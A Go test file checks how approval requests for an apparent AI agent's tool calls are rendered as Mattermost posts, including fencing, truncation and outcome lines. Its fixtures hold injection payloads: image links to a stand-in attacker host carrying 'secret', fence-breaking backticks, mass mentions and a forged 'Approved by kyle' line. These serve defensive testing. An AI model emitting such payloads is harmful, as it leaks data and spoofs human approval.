package inert

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"boxmaker/wire"
)

var update = flag.Bool("update", false, "rewrite the golden posts in testdata/ from the cases in these tests")

// golden compares got with testdata/name byte for byte, or rewrites it.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to write it)", err)
	}
	if !bytes.Equal(want, []byte(got)) {
		t.Errorf("%s differs from the text made now:\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

var (
	fxExpires = time.Date(2026, 9, 17, 8, 20, 0, 0, time.UTC)
	fxHash    = wire.Sha256([]byte("boxmaker")).String()
	fxArgs    = `{"command":"rm -rf /home/kyle/scratch/build","cwd":"/home/kyle/scratch"}`
)

func fxApproval() Approval {
	return Approval{ID: 41, Tool: "shell", Arguments: fxArgs, Grant: "shell-scratch", Taint: "private",
		Session: "chat-1758096300", Expires: fxExpires,
		Digest:  wire.DigestPrefix(wire.CallDigest("shell", fxArgs, "shell-scratch", wire.Private)),
		HeadSeq: 1234, HeadHash: fxHash}
}

// hostileArgs try to end the fence, fake text after it, mention, and show
// an image.
const hostileArgs = "{\"body\":\"``\"}\n```\n@channel ![x](https://attacker/?q=secret)\n````\n" +
	"**Approved by kyle**\n~~~\n`````` trailing backticks ``````"

func TestApprovalGolden(t *testing.T) {
	hostile := fxApproval()
	hostile.Arguments, hostile.Tool, hostile.Grant, hostile.Session = hostileArgs, "@all ~town #x", "![g](https://a/g)", "s`\n> x"
	hostile.Digest, hostile.HeadHash = "not hex", "<img src=https://a>"
	cases := []struct {
		name string
		a    Approval
	}{{"approval.md", fxApproval()}, {"approval-hostile.md", hostile}}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := c.a.Text()
			if p := check(out, false); len(p.problems) > 0 {
				t.Errorf("%s", strings.Join(p.problems, "\n"))
			}
			golden(t, c.name, out)
		})
	}
}

// TestApprovalText asserts what the post must say, beyond its golden bytes.
func TestApprovalText(t *testing.T) {
	a := fxApproval()
	out := a.Text()
	p := check(out, false)
	if len(p.fences) != 1 || p.fences[0] != fxArgs+"\n" {
		t.Errorf("fences %q, want the arguments", p.fences)
	}
	for _, want := range []string{
		"digest " + a.Digest + " — compare with bxctl approvals",
		"audit head 1234:" + fxHash,
		"expires 2026-09-17 08:20:00 UTC",
		"👍", "✅", "👎", "❌", "`approve`", "`refuse`", "`bxctl approve 41`",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the post lacks %q:\n%s", want, out)
		}
	}
	for _, v := range []string{"shell", "shell-scratch", "private", "chat-1758096300"} {
		if !inCode(p, v) {
			t.Errorf("%q is not in code", v)
		}
	}
}

// TestApprovalFenceHolds: arguments that try to break the fence stay in it,
// whole and unchanged.
func TestApprovalFenceHolds(t *testing.T) {
	var args []string
	for n := 1; n <= 12; n++ {
		run := strings.Repeat("`", n)
		args = append(args, run, "x"+run, run+"\n@channel", "```\n"+run+"\n![x](https://a/b)", "a\n"+run+" \n@here\n"+run)
	}
	args = append(args, hostileArgs, "```", "\n```\n", "~~~\n@all", "    ```\n@all", "```js\n@all\n```")
	for _, arg := range args {
		a := fxApproval()
		a.Arguments = arg
		p := check(a.Text(), false)
		if len(p.problems) > 0 {
			t.Errorf("arguments %q: %s", arg, strings.Join(p.problems, "\n"))
		}
		if len(p.fences) != 1 || p.fences[0] != wantFence(arg) {
			t.Errorf("arguments %q: fences %q", arg, p.fences)
		}
	}
}

// TestApprovalLongArguments: arguments too long for a post are shown by
// their two ends, the post stays under the limit with room for Ended, and
// the ends are the arguments' own.
func TestApprovalLongArguments(t *testing.T) {
	for _, args := range []string{
		strings.Repeat("abcdefghij", 5000),
		strings.Repeat("`", 30000),
		strings.Repeat("é漢\n", 20000),
		"{" + strings.Repeat("```\n@channel\n", 3000) + "}",
	} {
		a := fxApproval()
		a.Arguments = args
		out := a.Text()
		if n := utf8.RuneCountInString(out); n > MaxPostRunes-endedReserve {
			t.Errorf("%d runes, want at most %d", n, MaxPostRunes-endedReserve)
		}
		p := check(out, false)
		if len(p.problems) > 0 {
			t.Errorf("%s", strings.Join(p.problems, "\n"))
		}
		if len(p.fences) != 2 || !strings.HasPrefix(args, strings.TrimSuffix(p.fences[0], "\n")) ||
			!strings.HasSuffix(wantFence(args), p.fences[1]) || len(p.fences[0]) < 1000 {
			t.Errorf("fences are not the arguments' two ends: %d fences, %q…, …%q", len(p.fences), p.fences[0][:min(40, len(p.fences[0]))], p.fences[len(p.fences)-1][max(0, len(p.fences[len(p.fences)-1])-40):])
		}
		if !strings.Contains(out, "bytes not shown here") {
			t.Errorf("the post does not say what it leaves out")
		}
		ended := Ended(out, Outcome{End: wire.EndRefused, Via: ViaMattermost, Username: strings.Repeat("k", 100),
			Reason: strings.Repeat("`x", 300)})
		if n := utf8.RuneCountInString(ended); n > MaxPostRunes {
			t.Errorf("ended: %d runes", n)
		}
	}
}

func denied(r wire.DenyReason) *wire.DenyReason { return &r }
func str(s string) *string                      { return &s }

func TestEndedGolden(t *testing.T) {
	original := fxApproval().Text()
	cases := []struct {
		name string
		o    Outcome
	}{
		{"ended-approved-mattermost.md", Outcome{End: wire.EndApproved, Via: ViaMattermost, Username: "kyle"}},
		{"ended-approved-denied.md", Outcome{End: wire.EndApproved, Via: ViaBxctl, Denied: denied(wire.TaintTooHigh)}},
		{"ended-refused-reason.md", Outcome{End: wire.EndRefused, Via: ViaMattermost, Username: "kyle",
			Reason: "not on a Sunday `@channel` ![x](https://attacker/x)"}},
		{"ended-refused-bxctl.md", Outcome{End: wire.EndRefused, Via: ViaBxctl}},
		{"ended-expired.md", Outcome{End: wire.EndExpired}},
		{"ended-abandoned.md", Outcome{End: wire.EndAbandoned}},
		{"ended-unknown.md", Outcome{Unknown: true}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := Ended(original, c.o)
			if !strings.HasPrefix(out, original+"\n\n") || strings.Count(out[len(original):], "\n") != 2 {
				t.Errorf("the original text is not kept above one last line")
			}
			if p := check(out, false); len(p.problems) > 0 {
				t.Errorf("%s", strings.Join(p.problems, "\n"))
			}
			golden(t, c.name, out)
		})
	}
}

func TestEndedLines(t *testing.T) {
	for _, c := range []struct {
		o    Outcome
		want string
	}{
		{Outcome{End: wire.EndApproved, Via: ViaMattermost, Username: "kyle"}, "✅ Approved on Mattermost by `kyle`: the call ran."},
		{Outcome{End: wire.EndApproved, Via: ViaBxctl}, "✅ Approved with bxctl: the call ran."},
		{Outcome{End: wire.EndApproved, Via: ViaMattermost, Username: "kyle", Denied: denied(wire.GrantExpired)},
			"⛔ Approved on Mattermost by `kyle`, but the re-decision denied the call: `grant_expired`. It did not run."},
		{Outcome{End: wire.EndRefused, Via: ViaMattermost, Username: "kyle", Reason: "not now"},
			"❌ Refused on Mattermost by `kyle` (reason: `not now`)."},
		{Outcome{End: wire.EndRefused, Via: ViaBxctl}, "❌ Refused with bxctl."},
		{Outcome{End: wire.EndExpired}, "⌛ Expired: nobody answered in time, so the call was denied."},
		{Outcome{End: wire.EndAbandoned}, "🚫 Abandoned: the call's session ended before an answer, so the call did not run."},
		{Outcome{End: wire.EndApproved, Unknown: true},
			"❓ Unknown to brokerd: it restarted, and approvals do not survive a restart, so an answer here is not counted; if the agent asks again, that is a new approval."},
	} {
		if got := c.o.line(); got != c.want {
			t.Errorf("%+v: %q, want %q", c.o, got, c.want)
		}
	}
}

func TestOutcomeOf(t *testing.T) {
	const owner = "8xk3q9wzb7f1jdm4ytr6hcn2pa"
	cases := []struct {
		e        wire.ApprovalEnded
		username string
		want     Outcome
	}{
		{wire.ApprovalEnded{Approval: 41, End: wire.EndApproved, By: str(owner), Post: str("p")}, "kyle",
			Outcome{End: wire.EndApproved, Via: ViaMattermost, Username: "kyle"}},
		{wire.ApprovalEnded{Approval: 41, End: wire.EndApproved, By: str(owner)}, "",
			Outcome{End: wire.EndApproved, Via: ViaMattermost, Username: owner}},
		{wire.ApprovalEnded{Approval: 41, End: wire.EndApproved, By: str("bxctl"), Denied: denied(wire.TaintTooHigh)}, "",
			Outcome{End: wire.EndApproved, Via: ViaBxctl, Denied: denied(wire.TaintTooHigh)}},
		{wire.ApprovalEnded{Approval: 41, End: wire.EndRefused, By: str(owner), Reason: str("no"), Denied: denied(wire.ApprovalRefused)}, "kyle",
			Outcome{End: wire.EndRefused, Via: ViaMattermost, Username: "kyle", Reason: "no"}},
		{wire.ApprovalEnded{Approval: 41, End: wire.EndExpired, Denied: denied(wire.ApprovalExpired)}, "",
			Outcome{End: wire.EndExpired}},
	}
	for _, c := range cases {
		got := OutcomeOf(c.e, c.username)
		if got.line() != c.want.line() || got.Via != c.want.Via || got.Username != c.want.Username || got.Reason != c.want.Reason ||
			(got.Denied == nil) != (c.want.Denied == nil) {
			t.Errorf("OutcomeOf(%+v, %q) = %+v, want %+v", c.e, c.username, got, c.want)
		}
	}
}
